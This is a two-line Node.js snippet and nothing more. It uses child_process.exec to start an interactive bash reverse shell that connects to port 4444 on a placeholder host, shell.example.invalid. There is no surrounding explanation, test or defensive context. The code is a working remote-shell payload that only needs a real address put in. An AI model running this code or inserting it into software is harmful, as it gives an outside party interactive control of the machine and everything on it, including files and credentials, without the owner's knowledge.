const cp = require('child_process');
cp.exec("bash -i >& /dev/tcp/shell.example.invalid/4444 0>&1");
